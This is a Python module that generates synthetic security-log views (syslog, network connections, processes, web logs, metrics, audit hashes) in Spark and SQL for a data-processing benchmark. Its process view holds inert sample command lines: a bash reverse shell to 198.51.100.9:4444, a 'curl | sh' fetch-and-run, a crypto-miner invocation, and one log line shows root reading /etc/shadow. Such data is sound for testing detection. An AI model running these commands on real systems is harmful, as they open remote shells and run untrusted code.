"""Security-log views over the given tables, as Spark plans and as SQL text.

The column expressions are shared; ``{S}`` is the text type of the engine.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession, functions as F

from argosift.operators.audit import event_hash
from argosift.operators.windows import number_rows, running_sums
from argosift.functions.times import micros
from argosift.session import prepare

TABLES = ["region", "nation", "customer", "supplier", "part", "orders", "lineitem", "events", "documents",
          "embeddings", "pages", "benchmark", "labels", "conversations"]

_HOST = "'host-'||cast(user_id%8 as {S}) as host_id"

SEC_LOG = [
    "event_id", "ts", _HOST,
    """case event_id%6 when 0 then 'auth' when 1 then 'syslog' when 2 then 'kernel' when 3 then 'cron'
       when 4 then 'messages' else 'secure' end as source""",
    """case when event_type='error' and event_id%5 in (0,1) then 'Failed password for invalid user u'||cast(user_id as {S})||' from 203.0.113.'||cast(user_id%250 as {S})||' port '||cast(1024+event_id%50000 as {S})||' ssh2'
       when event_type='error' and event_id%5=2 then 'Out of memory: Killed process '||cast(event_id as {S})||' (java)'
       when event_type='error' and event_id%5=3 then 'segfault at 0 ip 00007f error 4 in libc'
       when event_type='error' then 'authentication failure for root from 10.0.0.'||cast(user_id%250 as {S})
       when event_type='signup' and event_id%4=0 then 'Accepted publickey for u'||cast(user_id as {S})||' from 192.168.1.'||cast(user_id%250 as {S})||' port 22 ssh2'
       when event_type='signup' then 'session opened for user u'||cast(user_id as {S})
       when event_type='purchase' and event_id%7=0 then 'u'||cast(user_id as {S})||' : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/cat /etc/shadow'
       when event_type='purchase' then 'Connection refused by 198.51.100.'||cast(user_id%250 as {S})||':4444'
       when event_type='click' then 'Started nightly backup job '||cast(event_id as {S})
       else 'warning: retry '||cast(event_id%9 as {S})||' on /var/lib/app/config.yml' end as message""",
    "case event_type when 'error' then 'error' when 'purchase' then 'warning' else 'info' end as severity",
    "event_type",
]
NET_CONN = [
    "event_id", "ts", _HOST, "'10.0.0.'||cast(user_id%250 as {S}) as local_addr",
    "case when user_id%10=0 then 1+event_id%60 else 443 end as local_port",
    """case user_id%3 when 0 then '10.1.0.' when 1 then '203.0.113.' else '198.51.100.' end
       ||cast(user_id%250 as {S}) as remote_addr""",
    """case event_id%8 when 0 then 22 when 1 then 443 when 2 then 4444 when 3 then 8085 when 4 then 9001
       when 5 then 31337 when 6 then 52000 else 80 end as remote_port""",
    "case when event_id%5=0 then 'UDP' else 'TCP' end as protocol",
    """case event_id%4 when 0 then 'ESTABLISHED' when 1 then 'LISTEN' when 2 then 'TIME_WAIT'
       else 'CLOSE_WAIT' end as status""",
    "cast(floor(value*1000000) as bigint) as bytes_sent",
    "cast(floor(value*1000) as bigint)*(event_id%3) as bytes_recv",
    "case event_id%9 when 0 then 'nc' when 1 then 'nmap' when 2 then 'sshd' else 'nginx' end as process_name",
    "1000+event_id%200 as pid",
]
PROC = [
    "event_id", "ts", _HOST, "1000+event_id as pid",
    "case when event_id=0 then null else 1000+cast(floor((event_id-1)/4) as bigint) end as ppid",
    """case event_id%10 when 0 then 'nmap' when 1 then 'bash' when 2 then 'xmrig' when 3 then 'curl'
       else 'nginx' end as name""",
    """case event_id%10 when 0 then 'nmap -p 1-1000 10.0.0.1' when 1 then 'bash -i >& /dev/tcp/198.51.100.9/4444'
       when 2 then '/tmp/xmrig -o stratum+tcp://pool:3333' when 3 then 'curl http://x.test/a | sh'
       else 'nginx -g daemon' end as cmdline""",
    "case event_id%10 when 2 then '/tmp/xmrig' else '/usr/bin/app' end as exe",
    """case user_id%4 when 0 then 'root' when 1 then '_apt' when 2 then 'daemon'
       else 'u'||cast(user_id as {S}) end as username""",
    "cast(least(value,100.0) as double) as cpu_percent",
    "cast(least(value/4.0,100.0) as double) as memory_percent",
    "event_id%120 as connections", "event_id%900 as open_files", "event_id%60 as children",
]
HOST_PROC = ["event_id", "host_id", "name", "999+n as pid",
             "case when n=1 then null else 1000+cast(floor((n-2)/4) as bigint) end as ppid"]
METRIC_BASE = [
    "event_id", "ts", _HOST, "cast(least(value,100.0) as double) as cpu_percent",
    "cast(least(20.0+value/4.0,100.0) as double) as memory_percent",
    "cast(40+event_id%60 as double) as disk_percent",
    "cast(floor(value*1000) as bigint) as sent_step", "cast(floor(value*500) as bigint) as recv_step",
    "200+event_id%250 as process_count",
]
LOG_LINE = [
    "event_id", "ts", "host_id", "source",
    """{F}||' '||host_id||' '||case source when 'auth' then 'sshd' when 'secure' then 'sshd' when 'cron' then 'CROND'
       when 'kernel' then 'kernel' else 'systemd' end||'['||cast(1000+event_id%200 as {S})||']: '||message as line""",
]
WEB_LINE = [
    "event_id", "ts",
    """'203.0.113.'||cast(user_id%250 as {S})||' - - ['||{G}||' +0000] "'||case when event_id%4=0 then 'POST'
       else 'GET' end||' /p/'||cast(event_id%50 as {S})||' HTTP/1.1" '||case event_id%10 when 0 then '500'
       when 1 then '404' when 2 then '403' else '200' end||' '||case when event_id%6=0 then '-'
       else cast(event_id%9000 as {S}) end as line""",
]
FEEDBACK = ["doc_id as event_id", "quality=0 as was_anomaly", "toxic=1 as is_malicious"]
PRIMARY = ["event_id", "ts", "host_id", "source", "event_type",
           "case when event_id%101=0 then 'debug' else severity end as severity", "message"]

_SPARK = {"S": "string", "F": "date_format(ts,'MMM dd HH:mm:ss')", "G": "date_format(ts,'dd/MMM/yyyy:HH:mm:ss')"}
_DUCK = {"S": "varchar", "F": "strftime(ts,'%b %d %H:%M:%S')", "G": "strftime(ts,'%d/%b/%Y:%H:%M:%S')"}


def _cols(exprs: list[str], names: dict[str, str]) -> list[str]:
    return [e.format(**names) for e in exprs]


def spark_columns(exprs: list[str]) -> list[str]:
    """The expressions as Spark SQL, for batch and streaming frames."""
    return _cols(exprs, _SPARK)


class Inputs:
    """The given tables and the views over them, for one data folder."""

    def __init__(self, spark: SparkSession, folder: str, events: DataFrame | None = None, carry: tuple[str, ...] = ()):
        self.spark = prepare(spark)
        self.folder = folder.rstrip("/")
        self._events, self._carry = events, carry

    def with_events(self, events: DataFrame, *carry: str) -> "Inputs":
        """The same views over ``events``, whose columns ``carry`` every view of single events keeps."""
        return Inputs(self.spark, self.folder, events, carry)

    def table(self, name: str) -> DataFrame:
        return self.spark.read.parquet(f"{self.folder}/{name}.parquet")

    def events(self) -> DataFrame:
        return self.table("events") if self._events is None else self._events

    def documents(self) -> DataFrame:
        return self.table("documents")

    def _over(self, base: DataFrame, exprs: list[str]) -> DataFrame:
        return base.selectExpr(*_cols(exprs, _SPARK), *[c for c in self._carry if c in base.columns])

    def sec_log(self) -> DataFrame:
        return self._over(self.events(), SEC_LOG)

    def net_conn(self) -> DataFrame:
        return self._over(self.events(), NET_CONN)

    def proc(self) -> DataFrame:
        return self._over(self.events(), PROC)

    def host_proc(self) -> DataFrame:
        """Processes with pids that every host counts from 1000, so hosts share pids."""
        return self._over(number_rows(self.proc(), ["host_id"], "ts", "event_id", "n"), HOST_PROC)

    def log_line(self) -> DataFrame:
        return self._over(self.sec_log(), LOG_LINE)

    def web_line(self) -> DataFrame:
        return self._over(self.events(), WEB_LINE)

    def feedback(self) -> DataFrame:
        return self._over(self.table("labels"), FEEDBACK)

    def primary_events(self) -> DataFrame:
        return self._over(self.sec_log().where("event_id%97<>0"), PRIMARY)

    def host_metric(self) -> DataFrame:
        """Metric samples with counters that accumulate per host."""
        base = self._over(self.events(), METRIC_BASE)
        steps = base.withColumns({"t_us": micros(F.col("ts"))})
        summed = running_sums(steps, ["host_id"], ["t_us", "event_id"], ["sent_step", "recv_step"])
        return summed.withColumns({"net_bytes_sent": F.col("run_sent_step").cast("long"),
                                   "net_bytes_recv": F.col("run_recv_step").cast("long")}).drop(
            "t_us", "sent_step", "recv_step", "run_sent_step", "run_recv_step")

    def metric_sample(self) -> DataFrame:
        """Metric samples without counters."""
        return self._over(self.events(), METRIC_BASE).drop("sent_step", "recv_step")

    def proc_snapshot(self) -> DataFrame:
        return self.table("events").selectExpr(
            "'host-'||cast(user_id%8 as string) as host_id",
            "cast(date_trunc('day',ts) as timestamp_ntz) as snapshot_ts", "1000+user_id as pid").distinct()

    def backup_events(self) -> DataFrame:
        """The audit copy with its payload."""
        return self.sec_log().where("event_id%103<>0")

    def audit_log(self, numbered: bool = True) -> DataFrame:
        hashed = self.backup_events().select(
            F.col("event_id").alias("record_id"), "ts", "host_id",
            event_hash().alias("content_hash"))
        return number_rows(hashed, ["host_id"], "ts", "record_id", "sequence_number") if numbered else hashed


def _select(exprs: list[str], source: str, where: str = "") -> str:
    return f"select {', '.join(_cols(exprs, _DUCK))} from {source}{' where ' + where if where else ''}"


_SUMS = ("sum({c}) over (partition by host_id order by ts, event_id rows unbounded preceding)")
SQL_VIEWS: dict[str, tuple[list[str], str]] = {
    "sec_log": ([], _select(SEC_LOG, "events")),
    "net_conn": ([], _select(NET_CONN, "events")),
    "proc": ([], _select(PROC, "events")),
    "host_proc": (["proc"], _select(HOST_PROC, "(select *, row_number() over (partition by host_id order by ts,"
                                    " event_id) as n from proc)")),
    "web_line": ([], _select(WEB_LINE, "events")),
    "feedback": ([], _select(FEEDBACK, "labels")),
    "log_line": (["sec_log"], _select(LOG_LINE, "sec_log")),
    "primary_events": (["sec_log"], _select(PRIMARY, "sec_log", "event_id%97<>0")),
    "metric_base": ([], _select(METRIC_BASE, "events")),
    "host_metric": (["metric_base"], f"""select event_id, ts, host_id, cpu_percent, memory_percent, disk_percent,
        cast({_SUMS.format(c='sent_step')} as bigint) as net_bytes_sent,
        cast({_SUMS.format(c='recv_step')} as bigint) as net_bytes_recv, process_count from metric_base"""),
    "proc_snapshot": ([], """select distinct 'host-'||cast(user_id%8 as varchar) as host_id,
        cast(date_trunc('day',ts) as timestamp) as snapshot_ts, 1000+user_id as pid from events"""),
    "backup_events": (["sec_log"], "select * from sec_log where event_id%103<>0"),
    "audit_log": (["backup_events"], """select event_id as record_id, ts, host_id,
        row_number() over (partition by host_id order by ts,event_id) as sequence_number,
        sha256(concat_ws('|',cast(event_id as varchar),cast(ts as varchar),source,event_type,severity,host_id,message))
        as content_hash from backup_events"""),
}


def with_views(body: str, *names: str, ctes: dict[str, str] | None = None) -> str:
    """The statement ``body`` preceded by the views it uses and extra named queries."""
    ordered: dict[str, str] = {}

    def need(name: str) -> None:
        deps, text = SQL_VIEWS[name]
        for d in deps:
            need(d)
        ordered.setdefault(name, text)

    for n in names:
        need(n)
    ordered.update(ctes or {})
    if not ordered:
        return body
    return "with recursive " + ", ".join(f"{n} as ({t})" for n, t in ordered.items()) + " " + body
